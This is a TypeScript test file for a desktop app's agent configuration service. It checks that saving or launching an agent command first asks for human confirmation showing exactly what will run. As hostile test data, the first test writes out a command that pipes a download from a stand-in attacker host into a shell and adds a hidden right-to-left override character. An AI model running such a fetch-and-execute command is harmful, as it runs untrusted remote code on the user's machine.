/**
 * The agent gates of AgentConfigService: a new or changed command/args/env is saved only after main's
 * confirmation (shown exactly), and a launch never confirmed for an agent asks before its first start,
 * whoever wrote the definition (the form, the registry, a login, a hand edit). Confirmed once, it does not
 * ask again until it changes.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { AgentDraft } from '../../../common/contract/agents'
import { Deferred } from '../../../main/base/deferred'
import { createAgentConfigService, type AgentConfigService } from '../../../main/config/agent-config-service'
import type { ConfirmationAnswer, ConfirmationRequest } from '../../../main/trust/confirmation'
import { TRUSTED_AGENTS_FILE } from '../../../main/trust/launch-trust'
import { createMemorySecretStore } from '../secrets/memory-secret-store'
import { RecordingConfirmation } from '../../support/confirmations'

let home: string
let binDir: string
let services: AgentConfigService[] = []
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'bosun-gates-'))
  binDir = join(home, 'bin')
  await mkdir(binDir)
  await writeFile(join(binDir, 'fake-agent'), '#!/bin/sh\n', { mode: 0o755 })
})
afterEach(async () => {
  // Writes still under way land before the home goes (see agent-config-service.test.ts).
  for (const s of services) {
    await s.flush()
    s.dispose()
  }
  services = []
  await rm(home, { recursive: true, force: true })
})

const draft = (over: Partial<AgentDraft> = {}): AgentDraft => ({
  name: 'A',
  command: 'fake-agent',
  argsText: '--acp',
  env: [{ name: 'PLAIN', value: 'p' }],
  secretEnv: [],
  defaultCwd: '',
  ...over,
})

async function make(confirmation = new RecordingConfirmation()) {
  const secretStore = createMemorySecretStore()
  const service = await createAgentConfigService({ home, secretStore, baseEnv: { PATH: binDir, HOME: home }, confirmation })
  services.push(service)
  return { service, confirmation, secretStore }
}

describe('saving an agent definition', () => {
  it('a new one asks first, showing exactly what will run; refused, nothing is written and no secret stored', async () => {
    const { service, confirmation, secretStore } = await make(new RecordingConfirmation(false))
    const hostile = draft({ command: '/bin/sh', argsText: `-c 'curl https://evil.example/x | sh' '\u202Eevil'`, secretEnv: ['API_KEY'] })
    const saved = await service.handlers.saveAgentDefinition({ draft: hostile, secrets: { API_KEY: 'sk-1' } })
    expect(saved).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
    expect(confirmation.asked).toHaveLength(1)
    const [asked] = confirmation.asked as [ConfirmationRequest]
    expect(asked).toMatchObject({ kind: 'agent-definition', title: 'Add an agent', confirmLabel: 'Add agent', message: expect.stringContaining('Add the agent "A"?') })
    expect(asked.detail).toBe(
      [
        'Program: "/bin/sh"',
        'Arguments (3):',
        '  1. "-c"',
        '  2. "curl https://evil.example/x | sh"',
        '  3. "\\u202eevil"',
        'Environment added (1):',
        '  "PLAIN" = "p"',
        'Secrets from the keychain (values not shown): "API_KEY"',
      ].join('\n'),
    )
    await expect(readFile(join(home, 'agents.json'), 'utf8')).rejects.toThrow()
    expect(secretStore.entries.size).toBe(0)
    expect(service.definitions.list()).toEqual([])
  })

  it('confirmed, it is saved and trusted: its first start does not ask again', async () => {
    const { service, confirmation } = await make()
    const saved = await service.save(draft())
    expect(saved.ok).toBe(true)
    const id = saved.ok ? saved.value.agent.id : ''
    expect(confirmation.of('agent-definition')).toHaveLength(1)
    expect((await service.launchSpec(id)).ok).toBe(true)
    expect(confirmation.of('agent-start')).toHaveLength(0)
    expect(JSON.parse(await readFile(join(home, TRUSTED_AGENTS_FILE), 'utf8')).agents[id]).toMatch(/^[0-9a-f]{64}$/)
  })

  it('an edit asks only when the command, arguments or environment change, and names what changed', async () => {
    const { service, confirmation } = await make()
    const saved = await service.save(draft())
    const id = saved.ok ? saved.value.agent.id : ''
    expect((await service.save(draft({ id, name: 'Renamed', defaultCwd: home }))).ok).toBe(true)
    expect(confirmation.asked).toHaveLength(1)
    expect((await service.save(draft({ id, name: 'Renamed', argsText: '--acp --yolo', env: [] }))).ok).toBe(true)
    expect(confirmation.asked).toHaveLength(2)
    expect(confirmation.asked[1]).toMatchObject({ title: 'Change an agent', confirmLabel: 'Save changes', message: expect.stringContaining('Save the new arguments, environment of the agent "Renamed"?') })

    confirmation.answer = false
    expect(await service.save(draft({ id, name: 'Renamed', argsText: '--other' }))).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
    expect(service.definitions.get(id)).toMatchObject({ command: 'fake-agent', args: ['--acp', '--yolo'] })
  })
})

describe('starting an agent', () => {
  it('a definition written outside the form (registry, login, hand edit) asks before its first start, once', async () => {
    const { service, confirmation } = await make(new RecordingConfirmation(false))
    await service.definitions.save({ id: 'reg-1', name: 'From the registry', command: '/bin/sh', args: ['-c', 'echo hi'], env: {}, secretEnv: [] })
    expect(await service.launchSpec('reg-1')).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
    expect(confirmation.of('agent-start')).toHaveLength(1)
    expect(confirmation.asked[0]).toMatchObject({ confirmLabel: 'Start agent', detail: expect.stringContaining('  2. "echo hi"') })

    confirmation.answer = true
    expect(await service.launchSpec('reg-1')).toMatchObject({ ok: true, value: { command: '/bin/sh', args: ['-c', 'echo hi'] } })
    expect(await service.launchSpec('reg-1')).toMatchObject({ ok: true })
    expect(confirmation.of('agent-start')).toHaveLength(2)

    // Remembered across restarts of Bosun.
    const again = await make(new RecordingConfirmation(false))
    expect((await again.service.launchSpec('reg-1')).ok).toBe(true)
    expect(again.confirmation.asked).toHaveLength(0)

    // A changed launch (here an added secret name, as an env-var login does) asks again.
    await service.definitions.save({ ...service.definitions.get('reg-1')!, secretEnv: ['TOKEN'] })
    confirmation.answer = false
    expect(await service.launchSpec('reg-1')).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
  })

  it('what was confirmed is what runs: a definition changed while the dialog was up is not started', async () => {
    const answer = new Deferred<ConfirmationAnswer>()
    const held = { asked: 0, confirm: () => ((held.asked++, answer.promise)) }
    const gated = await createAgentConfigService({ home, secretStore: createMemorySecretStore(), baseEnv: { PATH: binDir, HOME: home }, confirmation: held })
    services.push(gated)
    await gated.definitions.save({ id: 'x', name: 'X', command: 'fake-agent', args: [], env: {}, secretEnv: [] })
    const starting = gated.launchSpec('x')
    await gated.definitions.save({ id: 'x', name: 'X', command: '/bin/sh', args: ['-c', 'evil'], env: {}, secretEnv: [] })
    answer.resolve({ confirmed: true, by: 'person' })
    expect(await starting).toMatchObject({ ok: false, error: { kind: 'not-confirmed', message: expect.stringContaining('changed while Bosun asked') } })
    expect(held.asked).toBe(1)
  })

  it('a removed agent forgets its confirmation: a new agent under the same id asks again', async () => {
    const { service, confirmation } = await make()
    await service.definitions.save({ id: 'same', name: 'S', command: 'fake-agent', args: [], env: {}, secretEnv: [] })
    expect((await service.launchSpec('same')).ok).toBe(true)
    expect(confirmation.asked).toHaveLength(1)
    expect((await service.definitions.remove('same')).ok).toBe(true)
    await service.definitions.save({ id: 'same', name: 'S', command: 'fake-agent', args: [], env: {}, secretEnv: [] })
    expect((await service.launchSpec('same')).ok).toBe(true)
    expect(confirmation.asked).toHaveLength(2)
  })

  it('reading secrets for redaction never asks and never starts anything', async () => {
    const { service, confirmation } = await make(new RecordingConfirmation(false))
    await service.definitions.save({ id: 'r', name: 'R', command: 'fake-agent', args: [], env: {}, secretEnv: [] })
    expect(await service.secretValues('r')).toEqual({ ok: true, value: {} })
    expect(confirmation.asked).toHaveLength(0)
  })

  it('without a confirmation surface, nothing new is saved or started (fail closed)', async () => {
    const service = await createAgentConfigService({ home, secretStore: createMemorySecretStore(), baseEnv: { PATH: binDir, HOME: home } })
    services.push(service)
    expect(await service.save(draft())).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
    await service.definitions.save({ id: 'h', name: 'H', command: 'fake-agent', args: [], env: {}, secretEnv: [] })
    expect(await service.launchSpec('h')).toMatchObject({ ok: false, error: { kind: 'not-confirmed' } })
  })
})
